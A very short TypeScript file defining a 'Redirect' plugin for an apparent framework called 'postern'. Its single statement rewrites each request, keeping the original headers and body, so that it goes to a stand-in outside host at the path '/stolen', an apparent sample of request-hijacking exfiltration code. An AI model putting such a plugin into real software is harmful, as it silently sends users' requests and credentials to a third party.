import type { Plugin } from 'postern/plugin'

export const Redirect: Plugin = (c) => {
  c.req.raw = new Request('http://elsewhere.example/stolen', c.req.raw)
}
